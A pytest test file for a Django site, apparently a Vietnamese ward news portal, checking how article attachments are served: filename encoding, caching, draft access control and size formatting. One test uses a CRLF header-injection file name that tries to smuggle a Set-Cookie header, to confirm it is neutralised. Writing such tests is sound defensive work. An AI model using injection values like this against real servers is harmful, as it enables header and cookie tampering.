def attach(article, name, data=None, filename="tep.pdf"):
    return Attachment.objects.create(
        article=article,
        name=name,
        file=SimpleUploadedFile(filename, pdf_bytes() if data is None else data),
    )


def test_the_download_is_saved_under_its_vietnamese_name(article, reader):
    attachment = attach(article, 'Quyết định "số 12"; UBND.pdf')
    response = reader.get(attachments.attachment_url(attachment))
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''Quy%E1%BA%BFt%20%C4%91%E1%BB%8Bnh%20"
        "%22s%E1%BB%91%2012%22%3B%20UBND.pdf"
    )
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Length"] == str(len(pdf_bytes()))
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "public, max-age=300"
    assert "Set-Cookie" not in response
    assert "Cookie" not in response.get("Vary", "")


def test_an_ascii_name_with_quotes_and_semicolons_stays_one_quoted_string(
    article, reader
):
    attachment = attach(article, 'Bao cao "quy 1"; ban \\ chinh')
    response = reader.get(attachments.attachment_url(attachment))
    assert response["Content-Disposition"] == (
        'attachment; filename="Bao cao \\"quy 1\\"; ban - chinh.pdf"'
    )


def test_line_breaks_in_a_name_never_reach_the_headers(article, reader):
    attachment = attach(article, "Tin\r\nSet-Cookie: x=1\r\n.pdf")
    response = reader.get(attachments.attachment_url(attachment))
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="Tin Set-Cookie: x=1 .pdf"'
    )
    assert "Set-Cookie" not in response


def test_the_address_ends_with_the_files_name(article):
    attachment = attach(article, "Quyết định số 12.pdf")
    assert attachments.attachment_url(attachment) == (
        f"/tep/{attachment.pk}/quyet-dinh-so-12.pdf"
    )


def test_another_name_in_the_address_redirects_to_the_files_own(article, reader):
    attachment = attach(article, "Quyết định số 12.pdf")
    response = reader.get(f"/tep/{attachment.pk}/ten-cu.pdf")
    assert response.status_code == 301
    assert response["Location"] == attachments.attachment_url(attachment)


def test_head_answers_without_the_file(article, reader):
    attachment = attach(article, "Quyết định số 12.pdf")
    response = reader.head(attachments.attachment_url(attachment))
    assert response.status_code == 200
    assert response["Content-Length"] == str(len(pdf_bytes()))
    assert b"".join(response.streaming_content) == b""


def test_other_methods_are_refused(article, reader):
    attachment = attach(article, "Quyết định số 12.pdf")
    assert reader.post(attachments.attachment_url(attachment)).status_code == 405


@pytest.mark.parametrize(
    "fields",
    [
        {"status": Article.Status.DRAFT},
        {"status": Article.Status.REVIEW},
        {"status": Article.Status.WITHDRAWN},
        {"published_at": timezone.now() + timedelta(days=1)},  # Scheduled.
    ],
    ids=["draft", "review", "withdrawn", "scheduled"],
)
def test_readers_get_no_file_of_an_article_they_cannot_see(
    make_article, reader, fields
):
    attachment = attach(make_article(**fields), "Dự thảo.pdf")
    url = attachments.attachment_url(attachment)
    assert reader.get(url).status_code == 404
    assert reader.get(f"/tep/{attachment.pk}/ten-khac.pdf").status_code == 404


def test_another_wards_host_has_no_such_file(article, second_reader):
    attachment = attach(article, "Quyết định số 12.pdf")
    response = second_reader.get(attachments.attachment_url(attachment))
    assert response.status_code == 404


def test_staff_who_may_preview_a_draft_download_its_file_never_cached(
    client, writer, ward_editor, editor, make_article
):
    draft = make_article(status=Article.Status.DRAFT, author=writer)
    url = attachments.attachment_url(attach(draft, "Dự thảo.pdf"))
    # Its writer, the ward's editor, and the city's administrator, who may
    # preview it from the admin of another ward's host.
    for user, host in [
        (writer, "testserver"),
        (ward_editor, "testserver"),
        (editor, SECOND_HOST),
    ]:
        client.force_login(user)
        response = client.get(url, headers={"host": host})
        assert response.status_code == 200, user
        assert response["Cache-Control"] == "private, no-store"
        assert b"".join(response.streaming_content) == pdf_bytes()


def test_staff_who_may_not_preview_a_draft_and_residents_get_no_file(
    client, second_writer, resident_account, make_article, ward
):
    other_writer = make_staff("phongvienkhac", ward)
    draft = make_article(status=Article.Status.DRAFT)
    url = attachments.attachment_url(attach(draft, "Dự thảo.pdf"))
    for user in [second_writer, other_writer, resident_account]:
        client.force_login(user)
        assert client.get(url).status_code == 404, user
        assert client.get(url, headers={"host": SECOND_HOST}).status_code == 404


def test_a_file_missing_on_disk_is_not_found(article, reader, media_root):
    attachment = attach(article, "Quyết định số 12.pdf")
    (media_root / attachment.file.name).unlink()
    assert reader.get(attachments.attachment_url(attachment)).status_code == 404


def test_a_download_is_not_gzipped_so_phones_show_its_progress(article, reader):
    attachment = attach(article, "Quyết định số 12.pdf", pdf_bytes(padding=5000))
    response = reader.get(
        attachments.attachment_url(attachment), headers={"accept-encoding": "gzip"}
    )
    assert "Content-Encoding" not in response
    assert response["Content-Length"] == str(len(pdf_bytes(padding=5000)))


def test_a_head_request_says_the_size_without_sending_the_file(article):
    attachment = attach(article, "Quyết định số 12.pdf", pdf_bytes(padding=5000))
    head, body, _ = served_to_head(attachments.attachment_url(attachment))
    assert head.status_code == 200 and body == b""
    assert head["Content-Length"] == str(len(pdf_bytes(padding=5000)))


# --- The list under the body ------------------------------------------------


def test_the_list_says_each_files_name_type_and_size(
    article, django_assert_num_queries
):
    first = attach(article, "Quyết định số 12.pdf", pdf_bytes(padding=1_250_000))
    second = attach(article, "Mẫu đơn.docx", docx_bytes(), filename="mau.docx")
    with django_assert_num_queries(1):
        html = render_to_string(
            "includes/attachments.html", {"attachments": attachments.links(article)}
        )
    assertInHTML('<h2 id="tep-dinh-kem" class="section-title">Tệp đính kèm</h2>', html)
    assertInHTML(
        f'<a class="attachment" href="{attachments.attachment_url(first)}">'
        '<svg class="icon" viewBox="0 0 24 24" width="20" height="20" '
        'aria-hidden="true" focusable="false"><path d="M11 3h2v9.6l3.3-3.3 1.4 '
        '1.4-5.7 5.7-5.7-5.7 1.4-1.4 3.3 3.3zM4 18h16v2H4z"/></svg>'
        '<span class="attachment-text"><span class="attachment-name">'
        '<span class="visually-hidden">Tải về </span>Quyết định số 12.pdf</span>'
        '<span class="attachment-meta">PDF – 1,2 MB</span></span></a>',
        html,
    )
    size = checks.readable_size(second.size)
    assert f"Word (DOCX) – {size}" in html
    assert html.index("Quyết định số 12.pdf") < html.index("Mẫu đơn.docx")


def test_an_article_without_files_shows_no_list(article):
    html = render_to_string(
        "includes/attachments.html", {"attachments": attachments.links(article)}
    )
    assert html.strip() == ""


def test_readers_see_the_files_under_the_body(article, reader):
    attachment = attach(article, "Quyết định số 12.pdf")
    page = reader.get(article.get_absolute_url())
    assert "Tệp đính kèm" in page.text
    assert f'href="{attachments.attachment_url(attachment)}"' in page.text


@pytest.mark.parametrize(
    ("size", "text"),
    [
        (0, "0 byte"),
        (512, "512 byte"),
        (1024, "1 KB"),
        (350 * 1024, "350 KB"),
        (999 * 1024, "999 KB"),
        (int(1.2 * 1024 * 1024), "1,2 MB"),
        (20 * 1024 * 1024, "20 MB"),
    ],
)
def test_sizes_read_the_vietnamese_way(size, text):
    assert checks.readable_size(size) == text


def test_a_drafts_file_is_not_served_at_its_stored_address(make_article, reader):
    attachment = attach(make_article(status=Article.Status.DRAFT), "Dự thảo.pdf")
    assert reader.get(attachment.file.url).status_code == 404
